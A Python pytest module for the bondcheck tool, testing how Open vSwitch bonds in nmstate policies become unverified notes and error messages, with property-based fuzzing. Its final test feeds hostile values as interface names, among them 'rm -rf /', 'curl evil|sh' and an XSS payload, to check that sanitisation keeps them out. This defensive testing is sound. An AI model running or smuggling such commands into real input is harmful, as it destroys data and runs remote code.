"""What a policy holds that bondcheck does not verify: Open vSwitch bonds become policy notes.

An OVS bond (``bridge.port[]`` with ``link-aggregation`` in an ovs-bridge) lives in OVS, not
in /proc/net/bonding. Left out silently, a report would look complete; a policy with nothing
else would fail with a message that does not say why.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bondcheck.errors import PolicyError
from bondcheck.model import Policy
from bondcheck.policy.desired import (
    UNTYPED_ABSENT_NOTE,
    expected_bonds_from_desired_state,
    node_policy,
    unverified_notes,
)
from bondcheck.policy.loader import load_policy_file, policy_from_object

from .conftest import SHAPES

OVS_NOTE = (
    "OVS bond ovs-bond1 of ovs-bridge br-ex (mode balance-slb; ports ens6, ens7) is not "
    "verified: bondcheck reads kernel bonds (/proc/net/bonding); check it with "
    "ovs-appctl bond/show ovs-bond1"
)


def _ovs_bridge(bridge: str = "br-ex", bond: str = "ovs-bond1", **extra: Any) -> dict[str, Any]:
    return {
        "name": bridge,
        "type": "ovs-bridge",
        "bridge": {
            "port": [
                {"name": bridge},
                {
                    "name": bond,
                    "link-aggregation": {
                        "mode": "balance-slb",
                        "port": [{"name": "ens6"}, {"name": "ens7"}],
                    },
                },
            ]
        },
        **extra,
    }


KERNEL_BOND = {
    "name": "bond0",
    "type": "bond",
    "link-aggregation": {"mode": "active-backup", "port": ["ens3", "ens4"]},
}


# --- the shape samples -----------------------------------------------------------------------


def test_mixed_policy_verifies_the_kernel_bond_and_notes_the_ovs_bond() -> None:
    policy = load_policy_file(str(SHAPES / "ovs-bond-mixed.yaml"))
    assert [b.name for b in policy.bonds] == ["bond0"]
    assert policy.bonds[0].mode == "802.3ad"
    assert policy.bonds[0].ports == ("ens224", "ens256")
    assert policy.notes == (OVS_NOTE,)


def test_ovs_only_policy_says_why_nothing_can_be_verified() -> None:
    with pytest.raises(PolicyError) as err:
        load_policy_file(str(SHAPES / "ovs-bond-only.yaml"))
    assert str(err.value) == (
        "policy ovs-bond-only: spec.desiredState.interfaces: no kernel bond to verify: "
        "OVS bond ovs-bond1 of ovs-bridge br-ex is an Open vSwitch bond, which bondcheck "
        "does not read (check it with ovs-appctl bond/show ovs-bond1)"
    )


def test_a_policy_without_ovs_bonds_has_no_notes() -> None:
    policy = load_policy_file(str(SHAPES / "bond-ovs-br-ex.yaml"))
    # bond0 is a kernel bond that is a port of br-ex: verified, so nothing to note.
    assert [b.name for b in policy.bonds] == ["bond0"]
    assert policy.notes == ()


# --- both loader paths and the per-node rendering --------------------------------------------


def test_plain_desired_state_file_gets_the_notes_too(write_yaml: Callable[..., str]) -> None:
    path = write_yaml(
        """
        interfaces:
        - name: bond0
          type: bond
          link-aggregation:
            mode: active-backup
            port: [ens3, ens4]
        - name: br-ex
          type: ovs-bridge
          bridge:
            ports:
            - name: ovs-bond1
              link-aggregation:
                mode: balance-tcp
                ports:
                - name: ens6
        """,
        "runbook.yaml",
    )
    policy = load_policy_file(path)
    assert policy.name == "runbook"
    assert policy.notes == (
        "OVS bond ovs-bond1 of ovs-bridge br-ex (mode balance-tcp; ports ens6) is not verified: "
        "bondcheck reads kernel bonds (/proc/net/bonding); check it with "
        "ovs-appctl bond/show ovs-bond1",
    )


def test_policy_from_object_as_the_cluster_path_uses_it() -> None:
    obj = {
        "apiVersion": "nmstate.io/v1",
        "kind": "NodeNetworkConfigurationPolicy",
        "metadata": {"name": "mixed"},
        "spec": {"desiredState": {"interfaces": [KERNEL_BOND, _ovs_bridge()]}},
    }
    policy = policy_from_object(obj, source="cluster")
    assert policy.notes == (OVS_NOTE,)
    assert policy.source == "cluster"


def test_node_policy_takes_the_notes_of_the_rendering() -> None:
    template = Policy(name="t", bonds=(), templated=True, notes=("from the template",))
    rendered = node_policy(
        template, {"interfaces": [KERNEL_BOND, _ovs_bridge()]}, where="worker-0: rendered"
    )
    assert rendered.notes == (OVS_NOTE,)
    assert [b.name for b in rendered.bonds] == ["bond0"]
    plain = node_policy(template, {"interfaces": [KERNEL_BOND]}, where="worker-1: rendered")
    assert plain.notes == ()  # the template's notes do not outlive its rendering


# --- what counts as an OVS bond --------------------------------------------------------------


def test_bridges_being_removed_or_ignored_hold_nothing_to_note() -> None:
    state = {
        "interfaces": [
            KERNEL_BOND,
            _ovs_bridge("br-old", "bond-old", state="absent"),
            _ovs_bridge("br-ign", "bond-ign", state="Ignore"),
            _ovs_bridge("br-down", "bond-down", state="down"),
        ]
    }
    notes = unverified_notes(state)
    assert len(notes) == 1
    assert notes[0].startswith("OVS bond bond-down of ovs-bridge br-down ")


def test_an_absent_ovs_bridge_keeps_the_plain_no_bond_message() -> None:
    state = {"interfaces": [_ovs_bridge(state="absent")]}
    with pytest.raises(PolicyError, match=r"no bond interface to verify \(found: ovs-bridge\)$"):
        expected_bonds_from_desired_state(state, where="policy p: spec.desiredState")


def test_bond_key_on_an_ovs_port_is_not_an_ovs_bond() -> None:
    """nmstate's OvsBridgePortConfig has no ``bond`` alias (and denies unknown keys)."""
    bridge = _ovs_bridge()
    port = bridge["bridge"]["port"][1]
    port["bond"] = port.pop("link-aggregation")
    assert unverified_notes({"interfaces": [KERNEL_BOND, bridge]}) == ()


def test_linux_bridge_ports_are_not_ovs_bonds() -> None:
    bridge = _ovs_bridge()
    bridge["type"] = "linux-bridge"
    assert unverified_notes({"interfaces": [bridge]}) == ()


def test_several_ovs_bonds_in_the_error_and_in_the_notes() -> None:
    state = {"interfaces": [_ovs_bridge("br-ex", "bond-a"), _ovs_bridge("br-1", "bond-b")]}
    with pytest.raises(PolicyError) as err:
        expected_bonds_from_desired_state(state, where="policy p:")
    assert str(err.value) == (
        "policy p: interfaces: no kernel bond to verify: OVS bonds bond-a of ovs-bridge br-ex "
        "and bond-b of ovs-bridge br-1 are Open vSwitch bonds, which bondcheck does not read "
        "(check each with ovs-appctl bond/show PORT)"
    )
    notes = unverified_notes(state)
    assert [n.split(" is not verified")[0] for n in notes] == [
        "OVS bond bond-a of ovs-bridge br-ex (mode balance-slb; ports ens6, ens7)",
        "OVS bond bond-b of ovs-bridge br-1 (mode balance-slb; ports ens6, ens7)",
    ]


def test_untyped_removal_note_still_applies_next_to_an_ovs_bond() -> None:
    state = {"interfaces": [{"name": "bond0", "state": "absent"}, _ovs_bridge()]}
    bonds = expected_bonds_from_desired_state(state, where="policy p:")
    assert [(b.name, b.state, b.notes) for b in bonds] == [
        ("bond0", "absent", (UNTYPED_ABSENT_NOTE,))
    ]
    assert unverified_notes(state) == (OVS_NOTE,)


# --- never raises ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("desired", "expected"),
    [
        (None, ()),
        ([], ()),
        ({"interfaces": "br-ex"}, ()),
        ({"interfaces": [None, 7, "x", {"type": 5}, {"type": "ovs-bridge", "bridge": []}]}, ()),
        ({"interfaces": [{"type": "ovs-bridge", "bridge": {"port": {"name": "x"}}}]}, ()),
        (
            {
                "interfaces": [
                    {
                        "type": "ovs-bridge",
                        "state": 3,
                        "bridge": {
                            "port": [1, {"link-aggregation": "x"}, {"link-aggregation": {}}]
                        },
                    }
                ]
            },
            (
                "OVS bond (unnamed) of ovs-bridge (unnamed) is not verified: bondcheck reads "
                "kernel bonds (/proc/net/bonding); check it with ovs-appctl bond/list",
            ),
        ),
    ],
)
def test_malformed_states_give_what_can_be_read(desired: object, expected: tuple[str]) -> None:
    assert unverified_notes(desired) == expected


JUNK = st.none() | st.booleans() | st.integers() | st.text(max_size=4) | st.just([])


def _maybe(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """The right shape, or junk in its place one time in four (rarely enough that the right
    shapes still nest deep enough to reach real OVS bonds): any level can be malformed."""
    return st.integers(0, 3).flatmap(lambda pick: strategy if pick else JUNK)


def _names(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return _maybe(st.lists(strategy, max_size=3))


BOND_PORT = _maybe(st.fixed_dictionaries({"name": JUNK}) | st.text(max_size=4))
LINK_AGGREGATION = _maybe(
    st.fixed_dictionaries(
        {},
        optional={
            "mode": _maybe(st.sampled_from(["balance-slb", "balance-tcp", "active-backup"])),
            "port": _names(BOND_PORT),
            "ports": _names(BOND_PORT),
            "slaves": _names(BOND_PORT),
        },
    )
)
BRIDGE_PORT = _maybe(
    st.fixed_dictionaries({"name": JUNK}, optional={"link-aggregation": LINK_AGGREGATION})
)
BRIDGE = _maybe(
    st.fixed_dictionaries({}, optional={"port": _names(BRIDGE_PORT), "ports": _names(BRIDGE_PORT)})
)
IFACE = _maybe(
    st.fixed_dictionaries(
        {"name": JUNK},
        optional={
            "type": _maybe(st.sampled_from(["ovs-bridge", " OVS-Bridge ", "bond", "linux-bridge"])),
            "state": _maybe(st.sampled_from(["up", "down", "absent", "ignore", "UP"])),
            "bridge": BRIDGE,
        },
    )
)
DESIRED = _maybe(st.fixed_dictionaries({}, optional={"interfaces": _names(IFACE)}))


@settings(max_examples=300, deadline=None)
@given(DESIRED)
def test_unverified_notes_never_raises(desired: object) -> None:
    notes = unverified_notes(desired)
    assert isinstance(notes, tuple)
    assert all(isinstance(n, str) and n.startswith("OVS bond ") for n in notes)


@settings(max_examples=200, deadline=None)
@given(DESIRED)
def test_validation_of_the_same_states_fails_only_with_a_policy_error(desired: object) -> None:
    """The OVS-aware "no kernel bond" message must not turn bad input into a traceback."""
    try:
        expected_bonds_from_desired_state(desired, where="policy p:")  # type: ignore[arg-type]
    except PolicyError as exc:
        assert str(exc).startswith("policy p:")


def test_hostile_names_never_reach_a_note() -> None:
    """A note is pasted into shells (its hint), tickets and terminals: only valid interface
    names appear in it; anything else is shown as a placeholder and gets no command hint."""
    desired = {
        "interfaces": [
            {
                "name": "br-ex; rm -rf /",
                "type": "ovs-bridge",
                "bridge": {
                    "port": [
                        {
                            "name": "x; curl evil|sh",
                            "link-aggregation": {
                                "mode": "<img src=x onerror=alert(1)>",
                                "port": [{"name": "![](http://evil/)"}, {"name": "ens6"}],
                            },
                        }
                    ]
                },
            }
        ]
    }
    (note,) = unverified_notes(desired)
    for bad in ("rm -rf", "curl", "<img", "http://evil", "|", "!["):
        assert bad not in note
    assert "ovs-appctl bond/show" not in note and "ovs-appctl bond/list" in note
    assert "ports (invalid name), ens6" in note and "mode (invalid mode)" in note
